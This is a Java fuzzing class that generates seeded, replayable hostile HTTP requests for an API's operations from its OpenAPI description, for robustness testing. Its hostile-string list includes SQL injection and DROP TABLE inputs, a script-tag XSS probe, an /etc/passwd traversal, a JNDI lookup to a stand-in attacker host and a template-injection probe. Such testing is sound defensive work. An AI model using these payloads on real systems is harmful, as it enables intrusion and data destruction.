package io.chatcontinuity.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.chatcontinuity.hostile.OpenApiOperations.Operation;
import io.chatcontinuity.hostile.OpenApiOperations.Parameter;
import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Generates hostile requests for an operation from its OpenAPI description: its parameters get known good values
 * (by parameter name) or hostile ones, its body is generated from its schema or mutated from a known good example,
 * or is no JSON at all. Everything comes from one seeded {@link Random}, so that a failing request can be replayed.
 */
final class HostileRequests {

    /** What a request carries; {@code credential} names a credential to be looked up when it is sent. */
    record Request(
            Operation operation,
            String path,
            Map<String, String> headers,
            Credential credential,
            String contentType,
            byte[] body,
            boolean chunked,
            String label) {}

    /** Which Authorization a request carries: the operation's own, one of the hostile ones, or none. */
    record Credential(boolean valid, String hostile, int slot) {}

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final ObjectMapper JSON = new ObjectMapper();

    /** Strings no field should take as they are, and some it should take exactly as they are. */
    static final List<String> HOSTILE_STRINGS = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "\ud800",
            "a\udbffb",
            "\udc00x",
            "x\ud83d",
            "\u202eevil\u202c",
            "\u200b\u200d\u2066x",
            "😀🎉👨‍👩‍👧",
            "\u0001\u001f\u007f",
            "\u0085",
            "\ufeff",
            "\uffff",
            "line\nbreak\ttab",
            "\r\n",
            "e\u0301\u0302\u0303",
            "ｆｕｌｌｗｉｄｔｈ",
            "' OR '1'='1",
            "'; DROP TABLE apps; --",
            "<script>alert(1)</script>",
            "%00",
            "../../etc/passwd",
            "${jndi:ldap://attacker/a}",
            "{{7*7}}",
            "\\u0000",
            "-1",
            "0",
            "1e309",
            "NaN",
            "true",
            "null",
            "x".repeat(4_001),
            "y".repeat(20_000),
            "🎉".repeat(2_001));

    /** Ids that name nothing, or something not the caller's. */
    private static final List<String> HOSTILE_IDS = List.of(
            "\u0000",
            "a\u0000",
            "%00",
            "\ud800",
            "app_\udbff",
            "\u202eppa",
            "😀",
            "..",
            ".",
            " ",
            "a b",
            "'",
            "app_AAAAAAAAAAAAAAAA",
            "app_",
            "conv_AAAAAAAAAAAAAAA!",
            "key_" + "A".repeat(16),
            "x".repeat(300),
            "z".repeat(3_000),
            "\u0085",
            "\uffff",
            "%2F",
            "a/b",
            "%ff",
            "\t",
            "null",
            "undefined",
            "-1",
            "app_AAAAAAAAAAAAAAAA\u0000");

    private static final List<String> HOSTILE_QUERY_VALUES = List.of(
            "",
            "0",
            "-1",
            "101",
            "100",
            "1",
            "50",
            "99999999999999999999",
            "1e3",
            " 1",
            "abc",
            "\u0000",
            "\ud800",
            "x".repeat(3_000),
            "AAAA",
            "Y29udl9B",
            "Y29udl9BQUFBQUFBQUFBQUFBQUFBLzk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5",
            "%",
            "=",
            "&",
            "null");

    private static final List<String> HOSTILE_HEADER_VALUES = List.of(
            "",
            "-1",
            "0",
            "abc",
            "*",
            "W/\"x\"",
            "99999999999999999999",
            "x".repeat(8_000),
            "Bearer",
            "\"\"",
            "null",
            "1.5",
            " ");

    private static final List<String> WRONG_CONTENT_TYPES = List.of(
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/json; charset=utf-16",
            "application/octet-stream",
            "*/*",
            "application/json-patch+json",
            "text/html; charset=\u00ff");

    private static final List<String> MALFORMED_JSON = List.of(
            "{",
            "[",
            "}",
            "{\"a\":}",
            "nul",
            "{\"a\":1,}",
            "\ufeff{}",
            "{\"a\":1}{\"b\":2}",
            "{'a':1}",
            "{\"a\":\"\\ud800\"}",
            "{\"a\":\"\\u0000\"}",
            "[1,2,]",
            "{\"a\" 1}",
            "\"just a string\"",
            "42",
            "true",
            "null",
            "[]",
            "{\"\":\"\"}",
            "{\"a\":\"\\x41\"}",
            "{\"a\":01}",
            "{\"a\":1e99999}",
            "{\"a\":-}",
            "{\"a\":\"\u0001\"}");

    private final Random random;
    private final JsonNode document;
    private final Map<String, List<String>> knownValues;
    private final Map<String, JsonNode> examples;
    private final List<String> hostileCredentials;
    private final List<String> origins;

    HostileRequests(
            long seed,
            JsonNode document,
            Map<String, List<String>> knownValues,
            Map<String, JsonNode> examples,
            List<String> hostileCredentials,
            List<String> origins) {
        this.random = new Random(seed);
        this.document = document;
        this.knownValues = knownValues;
        this.examples = examples;
        this.hostileCredentials = hostileCredentials;
        this.origins = origins;
    }

    /** The operation's path with the first known good value of each parameter (or a plain word). */
    String wellFormedPath(Operation operation) {
        String path = operation.path();
        for (int open; (open = path.indexOf('{')) >= 0; ) {
            int close = path.indexOf('}', open);
            List<String> known = knownValues.get(path.substring(open + 1, close));
            path = path.substring(0, open) + encode(known == null ? "word" : known.get(0)) + path.substring(close + 1);
        }
        return path;
    }

    Request next(Operation operation) {
        List<String> label = new ArrayList<>();
        StringBuilder path = new StringBuilder();
        String template = operation.path();
        int at = 0;
        for (int open; (open = template.indexOf('{', at)) >= 0; ) {
            int close = template.indexOf('}', open);
            path.append(template, at, open);
            String name = template.substring(open + 1, close);
            path.append(encode(pathValue(name, label)));
            at = close + 1;
        }
        path.append(template.substring(at));
        String query = query(operation, label);
        Map<String, String> headers = headers(operation, label);
        Credential credential = credential(label);
        String contentType = null;
        byte[] body = null;
        boolean chunked = false;
        if (operation.takesBody() || chance(0.1)) {
            contentType = operation.takesBody() ? operation.bodyTypes().get(0) : "application/json";
            Body generated = body(operation, label);
            body = generated.bytes();
            if (generated.contentType() != null) {
                contentType = generated.contentType().isEmpty() ? null : generated.contentType();
            }
            chunked = chance(0.05);
            if (chunked) {
                label.add("chunked");
            }
        }
        return new Request(
                operation, path + query, headers, credential, contentType, body, chunked, String.join(", ", label));
    }

    private record Body(byte[] bytes, String contentType) {}

    private Body body(Operation operation, List<String> label) {
        JsonNode example = examples.getOrDefault(operation.key(), NODES.objectNode());
        double dice = random.nextDouble();
        if (dice < 0.07) {
            label.add("example as is");
            return json(example);
        }
        if (dice < 0.45) {
            JsonNode mutated = mutate(example.deepCopy(), label);
            return json(mutated);
        }
        if (dice < 0.55) {
            label.add("from schema");
            return json(operation.bodySchema() == null ? NODES.objectNode() : fromSchema(operation.bodySchema(), 0));
        }
        if (dice < 0.67) {
            String malformed = pick(MALFORMED_JSON);
            label.add("malformed JSON " + printable(malformed));
            return new Body(malformed.getBytes(StandardCharsets.UTF_8), null);
        }
        if (dice < 0.71) {
            label.add("invalid UTF-8");
            return new Body(new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xc3, (byte) 0x28, '"', '}'}, null);
        }
        if (dice < 0.76) {
            label.add("duplicate keys");
            return new Body(duplicateKeys(example).getBytes(StandardCharsets.UTF_8), null);
        }
        if (dice < 0.80) {
            int depth = 50 + random.nextInt(5_000);
            label.add("nested " + depth + " deep");
            String open = random.nextBoolean() ? "[" : "{\"a\":";
            String close = open.equals("[") ? "]" : "}";
            return new Body((open.repeat(depth) + "1" + close.repeat(depth)).getBytes(StandardCharsets.UTF_8), null);
        }
        if (dice < 0.84) {
            label.add("huge array");
            ArrayNode array = NODES.arrayNode();
            int size = 1_000 + random.nextInt(20_000);
            for (int i = 0; i < size; i++) {
                array.add(i);
            }
            ObjectNode body = example.isObject() ? (ObjectNode) example.deepCopy() : NODES.objectNode();
            body.set(someField(body), array);
            return json(body);
        }
        if (dice < 0.91) {
            String type = pick(WRONG_CONTENT_TYPES);
            label.add("content type " + type);
            return new Body(json(example).bytes(), type);
        }
        if (dice < 0.94) {
            label.add("no content type");
            return new Body(json(example).bytes(), "");
        }
        if (dice < 0.97) {
            label.add("empty body");
            return new Body(new byte[0], null);
        }
        label.add("over 64 KiB");
        ObjectNode big = NODES.objectNode();
        big.put(someField(example), "b".repeat(66_000 + random.nextInt(10_000)));
        return json(big);
    }

    /** One or two changes to a JSON tree: a value replaced by a hostile one, removed, or added where unknown. */
    private JsonNode mutate(JsonNode body, List<String> label) {
        int changes = 1 + random.nextInt(2);
        JsonNode result = body;
        for (int i = 0; i < changes; i++) {
            List<ObjectNode> objects = new ArrayList<>();
            collectObjects(result, objects);
            if (objects.isEmpty() || chance(0.05)) {
                JsonNode whole = hostileValue(label);
                label.add("body replaced");
                result = whole;
                continue;
            }
            ObjectNode target = objects.get(random.nextInt(objects.size()));
            List<String> names = new ArrayList<>();
            target.fieldNames().forEachRemaining(names::add);
            double dice = random.nextDouble();
            if (names.isEmpty() || dice < 0.12) {
                String name = chance(0.5) ? pick(HOSTILE_STRINGS) : "unknown" + random.nextInt(100);
                label.add("added field " + printable(name));
                target.set(name, hostileValue(label));
            } else if (dice < 0.22) {
                String name = pick(names);
                label.add("removed " + name);
                target.remove(name);
            } else {
                String name = pick(names);
                label.add("field " + name);
                target.set(name, chance(0.15) ? NODES.textNode(randomToken()) : hostileValue(label));
            }
        }
        return result;
    }

    private JsonNode hostileValue(List<String> label) {
        double dice = random.nextDouble();
        if (dice < 0.55) {
            String text = pick(HOSTILE_STRINGS);
            label.add("string " + printable(text));
            return NODES.textNode(text);
        }
        label.add("wrong type");
        return switch (random.nextInt(9)) {
            case 0 -> NODES.numberNode(random.nextLong());
            case 1 -> NODES.numberNode(-1);
            case 2 -> NODES.numberNode(Double.MAX_VALUE);
            case 3 -> NODES.booleanNode(random.nextBoolean());
            case 4 -> NODES.nullNode();
            case 5 -> NODES.arrayNode().add("a").add(1).add(NODES.nullNode());
            case 6 -> NODES.objectNode().put("nested", pick(HOSTILE_STRINGS));
            case 7 -> NODES.numberNode(new BigInteger("9".repeat(30)));
            default -> NODES.arrayNode();
        };
    }

    /** A value of the schema's shape, its strings and numbers drawn from hostile and ordinary ones. */
    private JsonNode fromSchema(JsonNode schema, int depth) {
        JsonNode resolved = OpenApiOperations.resolve(document, schema);
        String type = resolved.path("type").asText("object");
        if (depth > 6) {
            return NODES.nullNode();
        }
        switch (type) {
            case "string":
                if (resolved.has("enum") && chance(0.7)) {
                    return resolved.get("enum")
                            .get(random.nextInt(resolved.get("enum").size()));
                }
                return NODES.textNode(chance(0.5) ? randomToken() : pick(HOSTILE_STRINGS));
            case "integer":
            case "number":
                return NODES.numberNode(chance(0.5) ? random.nextInt(200) - 50 : random.nextLong());
            case "boolean":
                return NODES.booleanNode(random.nextBoolean());
            case "array":
                ArrayNode array = NODES.arrayNode();
                int size = random.nextInt(chance(0.1) ? 200 : 4);
                for (int i = 0; i < size; i++) {
                    array.add(fromSchema(resolved.path("items"), depth + 1));
                }
                return array;
            default:
                ObjectNode object = NODES.objectNode();
                for (Iterator<Map.Entry<String, JsonNode>> properties =
                                resolved.path("properties").fields();
                        properties.hasNext(); ) {
                    Map.Entry<String, JsonNode> property = properties.next();
                    if (chance(0.85)) {
                        object.set(property.getKey(), fromSchema(property.getValue(), depth + 1));
                    }
                }
                return object;
        }
    }

    private String pathValue(String name, List<String> label) {
        List<String> known = knownValues.get(name);
        if (known != null && chance(0.6)) {
            return pick(known);
        }
        String value = pick(HOSTILE_IDS);
        label.add(name + "=" + printable(value));
        return value;
    }

    private String query(Operation operation, List<String> label) {
        List<String> pairs = new ArrayList<>();
        for (Parameter parameter : operation.parameters()) {
            if (!parameter.in().equals("query") || chance(0.3)) {
                continue;
            }
            String value = pick(HOSTILE_QUERY_VALUES);
            label.add(parameter.name() + "=" + printable(value));
            pairs.add(encode(parameter.name()) + "=" + encode(value));
        }
        if (chance(0.05)) {
            label.add("unknown query parameter");
            String value = pick(HOSTILE_STRINGS);
            pairs.add("debug=" + encode(value.substring(0, Math.min(value.length(), 500))));
        }
        return pairs.isEmpty() ? "" : "?" + String.join("&", pairs);
    }

    private Map<String, String> headers(Operation operation, List<String> label) {
        Map<String, String> headers = new LinkedHashMap<>();
        for (Parameter parameter : operation.parameters()) {
            if (!parameter.in().equals("header") || parameter.name().equalsIgnoreCase("Authorization")) {
                continue;
            }
            List<String> known = knownValues.get(parameter.name());
            if (known != null && chance(0.7)) {
                headers.put(parameter.name(), pick(known));
            } else if (chance(0.6)) {
                String value = pick(HOSTILE_HEADER_VALUES);
                label.add(parameter.name() + " header " + printable(value));
                headers.put(parameter.name(), value);
            }
        }
        if (chance(0.15)) {
            String origin = pick(origins);
            label.add("Origin " + printable(origin));
            headers.put("Origin", origin);
        }
        return headers;
    }

    private Credential credential(List<String> label) {
        double dice = random.nextDouble();
        if (dice < 0.68) {
            return new Credential(true, null, random.nextInt(1_000));
        }
        if (dice < 0.75) {
            label.add("no credential");
            return new Credential(false, null, 0);
        }
        String hostile = pick(hostileCredentials);
        label.add("credential " + printable(hostile));
        return new Credential(false, hostile, 0);
    }

    /** The example (or an empty object) with its first field written twice, the second time with another value. */
    private String duplicateKeys(JsonNode example) {
        ObjectNode object = example.isObject() && example.size() > 0
                ? (ObjectNode) example
                : NODES.objectNode().put("a", 1);
        String first = object.fieldNames().next();
        String json = new String(json(object).bytes(), StandardCharsets.UTF_8);
        return json.substring(0, json.length() - 1) + "," + JSON.valueToTree(first) + ":"
                + JSON.valueToTree(pick(HOSTILE_STRINGS)) + "}";
    }

    private Body json(JsonNode node) {
        try {
            return new Body(JSON.writeValueAsBytes(node), null);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static void collectObjects(JsonNode node, List<ObjectNode> objects) {
        if (node.isObject()) {
            objects.add((ObjectNode) node);
        }
        for (JsonNode child : node) {
            collectObjects(child, objects);
        }
    }

    private String someField(JsonNode example) {
        if (example.isObject() && example.size() > 0) {
            List<String> names = new ArrayList<>();
            example.fieldNames().forEachRemaining(names::add);
            return pick(names);
        }
        return "data";
    }

    private String randomToken() {
        StringBuilder token = new StringBuilder("h-");
        for (int i = 0, n = 4 + random.nextInt(12); i < n; i++) {
            token.append((char) ('a' + random.nextInt(26)));
        }
        return token.toString();
    }

    private boolean chance(double probability) {
        return random.nextDouble() < probability;
    }

    private <T> T pick(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }

    /**
     * Percent-encodes every byte but unreserved characters. An unpaired surrogate, which UTF-8 cannot encode, is sent
     * as the three bytes it would take (as WTF-8 does), so that the server sees it as the invalid UTF-8 it is.
     */
    static String encode(String value) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (int i = 0; i < value.length(); i++) {
            char c = value.charAt(i);
            boolean pair = Character.isHighSurrogate(c)
                    && i + 1 < value.length()
                    && Character.isLowSurrogate(value.charAt(i + 1));
            if (pair) {
                bytes.writeBytes(value.substring(i, i + 2).getBytes(StandardCharsets.UTF_8));
                i++;
            } else if (Character.isSurrogate(c)) {
                bytes.write(0xe0 | (c >> 12));
                bytes.write(0x80 | ((c >> 6) & 0x3f));
                bytes.write(0x80 | (c & 0x3f));
            } else {
                bytes.writeBytes(String.valueOf(c).getBytes(StandardCharsets.UTF_8));
            }
        }
        StringBuilder encoded = new StringBuilder();
        for (byte b : bytes.toByteArray()) {
            int u = b & 0xff;
            boolean unreserved = u < 0x80 && (Character.isLetterOrDigit(u) || "-._~".indexOf(u) >= 0);
            if (unreserved) {
                encoded.append((char) u);
            } else {
                encoded.append('%').append(String.format("%02X", u));
            }
        }
        return encoded.toString();
    }

    /** A short, printable form of a generated value for a failure report. */
    static String printable(String value) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < value.length() && out.length() < 40; i++) {
            char c = value.charAt(i);
            out.append(c < 0x20 || c >= 0x7f ? String.format("\\u%04x", (int) c) : String.valueOf(c));
        }
        return value.length() > 40 ? out + "…(" + value.length() + ")" : out.toString();
    }
}
